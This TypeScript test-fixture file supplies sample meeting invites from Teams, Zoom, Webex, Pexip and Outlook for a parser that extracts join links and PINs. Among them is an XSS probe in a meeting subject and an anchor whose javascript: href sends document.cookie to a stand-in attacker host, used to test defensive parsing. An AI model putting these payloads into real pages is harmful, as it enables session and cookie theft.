/**
 * Hand-written invite bodies for the invite tests: our block as rendered, the same after an
 * Outlook-like rewrite (Word HTML: MsoNormal paragraphs, o:p, conditional comments, en dashes,
 * styles renamed), Outlook's plain-text conversion, and Teams, Zoom, Webex and Pexip invites.
 */
import type { InviteBlockInput } from '../../../core/invite/render';

export const JOIN = 'https://meet.example.com/webapp3/m/alice?role=guest';

/** Monday 13 January 2025, 09:00-10:00 Europe/Berlin. */
export const INPUT: InviteBlockInput = {
  joinUrl: JOIN,
  accessCode: '48291736',
  passcode: { mode: 'shared', value: '90417263' },
  meeting: { start: Date.UTC(2025, 0, 13, 8), end: Date.UTC(2025, 0, 13, 9) },
  timeZone: 'Europe/Berlin',
  recurring: true,
  dialIn: { number: '+44 20 1234 5678', conferenceId: '123 456' },
  subject: 'Board <script>alert("x")</script> & "friends"',
};

/** What findInviteBlock / parseInvite read back from the block rendered from {@link INPUT}. */
export const INPUT_FIELDS = {
  personalPasscodes: false,
  subject: 'Board <script>alert("x")</script> & "friends"',
  joinUrl: JOIN,
  accessCode: '48291736',
  passcode: '90417263',
  activationSentence: 'The code works from 08:45 (Europe/Berlin), 15 minutes before the start.',
  recurringSentence: 'For this recurring series, the code is active 15 minutes before each occurrence.',
  dialIn: { number: '+44 20 1234 5678', conferenceId: '123 456' },
};

export const TEAMS_HTML = `<div style="width:100%"><span style="white-space:nowrap;color:#5F5F5F;opacity:.36">________________________________________________________________________________</span></div>
<div class="me-email-text" lang="en-US" style="color:#252424;font-family:'Segoe UI','Helvetica Neue',Helvetica,Arial,sans-serif;">
<div style="margin-top:24px;margin-bottom:20px;"><span style="font-size:24px;color:#252424">Microsoft Teams meeting</span></div>
<div style="margin-bottom:20px;"><div style="margin-top:0px;margin-bottom:0px;font-weight:bold"><span style="font-size:14px;color:#252424">Join on your computer, mobile app or room device</span></div>
<a class="me-email-headline" style="font-size:14px;font-family:'Segoe UI Semibold';text-decoration:underline;color:#6264a7;" href="https://teams.microsoft.com/l/meetup-join/19%3ameeting_NjA4ZDk5ZTAt%40thread.v2/0?context=%7b%22Tid%22%3a%2272f988bf%22%7d" target="_blank" rel="noreferrer noopener">Click here to join the meeting</a></div>
<div style="margin-bottom:20px;margin-top:20px"><div style="margin-bottom:4px"><span data-tid="meeting-code" style="font-size:14px;color:#252424;">Meeting ID: <span style="font-size:16px;color:#252424;">312 456 789 012</span></span><br><span style="font-size:14px;color:#252424;">Passcode: </span><span style="font-size:16px;color:#252424;">aB3xYz</span></div></div>
<div style="margin-bottom:24px;max-width:532px;"><hr style="border:0;background:#D3D3D3;height:1px"></div>
</div>`;

export const ZOOM_TEXT = `Alex Example is inviting you to a scheduled Zoom meeting.

Join Zoom Meeting
https://us02web.zoom.us/j/85512345678?pwd=aBcDeFgHiJkLmNoPqRsTuVwXyZ.1

Meeting ID: 855 1234 5678
Passcode: 482913

---

One tap mobile
+13462487799,,85512345678#,,,,*482913# US (Houston)

Meeting ID: 855 1234 5678
Passcode: 482913
`;

export const WEBEX_TEXT = `When it's time, join the Webex meeting here.

Join meeting
https://example.webex.com/example/j.php?MTID=m0123456789abcdef0123456789abcdef
More ways to join:
Meeting number (access code): 2634 123 4567
Meeting password: Xy7pQ2rs (99779727 from phones and video systems)

Join by phone
+1-415-655-0001 US Toll
Access code: 2634 123 4567
Need help? Go to https://help.webex.com
`;

export const PEXIP_TEXT = `Please join my Pexip meeting room.
Join: https://video.example.org/webapp/m/team.alpha?role=guest
Host PIN: 4711
Guest PIN: 8080
Video system: team.alpha@video.example.org
`;

/**
 * Our block as Outlook (Word editor) rewrites it: wrapper div kept without attributes,
 * paragraphs turned into MsoNormal with o:p, bold wrapped in spans, "--" turned into en dashes,
 * entities for quotes, an Outlook conditional comment, and the Teams block after it.
 */
export const OUTLOOK_REWRITTEN = `<html xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office" xmlns:w="urn:schemas-microsoft-com:office:word" xmlns:m="http://schemas.microsoft.com/office/2004/12/omml" xmlns="http://www.w3.org/TR/REC-html40">
<head>
<meta http-equiv="Content-Type" content="text/html; charset=utf-8">
<meta name="Generator" content="Microsoft Word 15 (filtered medium)">
<style><!--
/* Font Definitions */
@font-face {font-family:"Cambria Math"; panose-1:2 4 5 3 5 4 6 3 2 4;}
p.MsoNormal, li.MsoNormal, div.MsoNormal {margin:0cm; font-size:11.0pt; font-family:"Calibri",sans-serif;}
a:link, span.MsoHyperlink {mso-style-priority:99; color:#0563C1; text-decoration:underline;}
--></style><!--[if gte mso 9]><xml>
<o:shapedefaults v:ext="edit" spidmax="1026" />
</xml><![endif]-->
</head>
<body lang="EN-GB" link="#0563C1" vlink="#954F72" style="word-wrap:break-word">
<div class="WordSection1">
<p class="MsoNormal">Hi all, agenda attached.<o:p></o:p></p>
<p class="MsoNormal"><o:p>&nbsp;</o:p></p>
<div>
<p class="MsoNormal"><span lang="EN-US">&#8211;&#8211; SecureJoin secure access &#8211;&#8211;<o:p></o:p></span></p>
<p class="MsoNormal"><b><span lang="EN-US">Meeting:</span></b><span lang="EN-US"> Board &lt;script&gt;alert(&quot;x&quot;)&lt;/script&gt; &amp; &quot;friends&quot;<o:p></o:p></span></p>
<p class="MsoNormal"><b><span lang="EN-US">Join link:</span></b><span lang="EN-US"> <a href="https://meet.example.com/webapp3/m/alice?role=guest">https://meet.example.com/webapp3/m/alice?role=guest</a><o:p></o:p></span></p>
<p class="MsoNormal"><b><span lang="EN-US">Access code:</span></b><span lang="EN-US">&nbsp;48291736<o:p></o:p></span></p>
<p class="MsoNormal"><b><span lang="EN-US">Passcode:</span></b><span lang="EN-US"> 90417263<o:p></o:p></span></p>
<p class="MsoNormal"><span lang="EN-US">The code works from 08:45 (Europe/Berlin), 15&nbsp;minutes before the start.<o:p></o:p></span></p>
<p class="MsoNormal"><span lang="EN-US">For this recurring series, the code is active 15 minutes before each
occurrence.<o:p></o:p></span></p>
<![if !supportLists]><p class="MsoNormal"><b><span lang="EN-US">Dial in:</span></b><span lang="EN-US"> call +44 20 1234 5678, enter conference ID 123 456, then the access code followed by #.<o:p></o:p></span></p><![endif]>
<p class="MsoNormal"><span lang="EN-US">&#8211;&#8211; End of SecureJoin secure access &#8211;&#8211;<o:p></o:p></span></p>
</div>
<p class="MsoNormal"><o:p>&nbsp;</o:p></p>
${TEAMS_HTML}
</div>
</body>
</html>
`;

/** Outlook's plain-text conversion of the rewritten HTML (links as "text<url>"). */
export const PLAIN_TEXT_CONVERSION = `Hi all, agenda attached.\r
\r
-- SecureJoin secure access --\r
Meeting: Board <script>alert("x")</script> & "friends"\r
Join link: https://meet.example.com/webapp3/m/alice?role=guest<https://meet.example.com/webapp3/m/alice?role=guest>\r
Access code: 48291736\r
Passcode: 90417263\r
The code works from 08:45 (Europe/Berlin), 15 minutes before the start.\r
For this recurring series, the code is active 15 minutes before each occurrence.\r
Dial in: call +44 20 1234 5678, enter conference ID 123 456, then the access code followed by #.\r
-- End of SecureJoin secure access --\r
\r
________________________________________________________________________________\r
Microsoft Teams meeting\r
Join on your computer, mobile app or room device\r
Click here to join the meeting<https://teams.microsoft.com/l/meetup-join/19%3ameeting_NjA4ZDk5ZTAt%40thread.v2/0?context=%7b%22Tid%22%3a%2272f988bf%22%7d>\r
Meeting ID: 312 456 789 012\r
Passcode: aB3xYz\r
________________________________________________________________________________\r
`;

// ---- Pasted invites (the extension popup's "Paste an invite"), as mail clients hand them over ----

/** The room most pasted fixtures link to, and a second one a forwarded mail links to. */
export const BOARD = 'https://video.example.org/webapp3/m/board.review';
export const SYNC = 'https://video.example.org/webapp3/m/team.sync';

const SAFE_DATA =
  '05%7C02%7Cana.lima%40example.com%7C3f1c0e2a9b4d4c1e8f0a08dc1a2b3c4d%7C72f988bf86f141af91ab2d7cd011db47%7C0%7C0%7C638412345678901234%7CUnknown%7CTWFpbGZsb3d8eyJWIjoiMC4wLjAwMDAiLCJQIjoiV2luMzIiLCJBTiI6Ik1haWwiLCJXVCI6Mn0%3D%7C0%7C%7C%7C&sdata=q1W2e3R4t5Y6u7I8o9P0aSdFgHjKlZxCvBnM%3D&reserved=0';
/** `url` as Microsoft Defender's Safe Links rewrites it in a received mail. */
export const safeLink = (url: string, host = 'eur02.safelinks.protection.outlook.com'): string =>
  `https://${host}/?url=${encodeURIComponent(url)}&data=${SAFE_DATA}`;

/** Outlook's plain text of a received invite: every link behind Safe Links, shown as "text<url>". */
export const SAFE_LINKS_TEXT = `Please join the board review.\r
\r
Join the meeting<${safeLink(`${BOARD}?role=guest`)}>\r
Guest PIN: 2468 1357\r
`;

/** The same, as plain-text mail hard-wraps it at 76 columns: the "<...>" URL runs over three lines. */
export const WRAPPED_TEXT = (() => {
  const url = safeLink(`${BOARD}?role=guest`);
  const lines = [`Join the meeting<${url.slice(0, 60)}`, url.slice(60, 136), `${url.slice(136)}>`];
  return `Please join the board review.\n\n${lines.join('\n')}\nGuest PIN: 2468 1357\n`;
})();

/** Pexip-style HTML: labels and values in table cells (no colons), links in anchors. */
export const TABLE_HTML = `<table cellpadding="4" style="font-family:Arial">
<tr><td style="font-weight:bold">Meeting link</td><td><a href="${BOARD}">Join the board review</a></td></tr>
<tr><td style="font-weight:bold">Host PIN</td><td>4711 0815</td></tr>
<tr><td style="font-weight:bold">Guest PIN</td><td>8080 1212</td></tr>
</table>`;

/** Labels and values on separate lines (`<br>`), as a signature-style invite writes them. */
export const BR_SPLIT_HTML = `<p>Join from a browser: <a href="${BOARD}">${BOARD}</a></p>
<p><b>Conference ID:</b><br>8642 9753<br><b>Passcode:</b><br>5566 7788</p>`;

/** Teams- and Pexip-style invites written in German, French, Spanish, Dutch and Italian. */
export const GERMAN_TEXT = `Microsoft Teams-Besprechung\nBesprechungs-ID: 312 456 789 012\nKenncode: aB3xYz\n\nVideokonferenz: ${BOARD}\nGast-PIN: 2468 1357\nModerator-PIN: 9753 1864\n`;
export const FRENCH_TEXT = `Réunion Microsoft Teams\nID de réunion\u00a0: 312 456 789 012\nCode secret\u00a0: aB3xYz\n\nLien de la visioconférence : ${BOARD}\nCode PIN invité : 2468 1357\n`;
export const SPANISH_TEXT = `Reunión de Microsoft Teams\nId. de reunión: 312 456 789 012\nCódigo de acceso: 2468 1357\n\nEnlace: ${BOARD}\nContraseña: Xy7pQ2rs\n`;
export const DUTCH_TEXT = `Microsoft Teams-vergadering\nVergader-ID: 312 456 789 012\nWachtwoordcode: aB3xYz\n\nDeelnemen: ${BOARD}\nPincode: 2468 1357\n`;
export const ITALIAN_TEXT = `Riunione di Microsoft Teams\nID riunione: 312 456 789 012\nPasscode: aB3xYz\n\nPartecipa: ${BOARD}\nCodice di accesso: 2468 1357\n`;

/** Pexip's IVR sentences, as its invitation templates word them. */
export const IVR_TEXT = `Join from a browser: ${BOARD}
Join by phone: dial +44 20 3318 3333 and enter the conference ID 864297 followed by #.
When prompted, enter the PIN 2468 1357 followed by #.
Alternatively dial +47 21 93 00 00, then enter conference ID 864297#.
`;

/** A forwarded chain: the forwarder's own meeting on top, the forwarded invite (another room) below. */
export const FORWARDED_TEXT = `FYI, see below. Our sync moved to ${SYNC}
PIN: 1111 2222

-----Original Message-----
From: Board Office <board@example.org>
Sent: Monday, 13 January 2025 08:12
To: Ana Lima <ana.lima@example.com>
Subject: Board review

Join: ${BOARD}
Guest PIN: 3333 4444
Host PIN: 5555 6666
`;

/** Forwarded twice (German client): no meeting in the note, then the newest invite, then the original. */
export const FORWARDED_TWICE_TEXT = `Zur Info, siehe unten.

---------- Weitergeleitete Nachricht ---------
Von: Board Office <board@example.org>
Datum: Mo., 13. Jan. 2025 um 08:12
Betreff: Aktualisiert: Board review

Videokonferenz: ${BOARD}
Gast-PIN: 7777 8888

-----Ursprüngliche Nachricht-----
Von: Board Office <board@example.org>
Gesendet: Freitag, 10. Januar 2025 17:40
Betreff: Board review

Videokonferenz: ${SYNC}
Gast-PIN: 3333 4444
`;

/** An anchor that shows a join URL but runs script: its text must never be read as a link. */
export const SCRIPT_ANCHOR_HTML = `<p>Join: <a href="javascript:fetch('https://evil.example/'+document.cookie)">${BOARD}</a></p>
<p>Guest PIN: 2468 1357</p>`;

/** Codes with characters Pexip PINs never have: read whole, never cut to a PIN-shaped prefix. */
export const SYMBOL_CODES_TEXT = `Join: ${BOARD}
Passcode: 4821*99
Meeting password: Tq*8$mZ2 (86572910 from phones and video systems)
Guest PIN: 1357$
`;
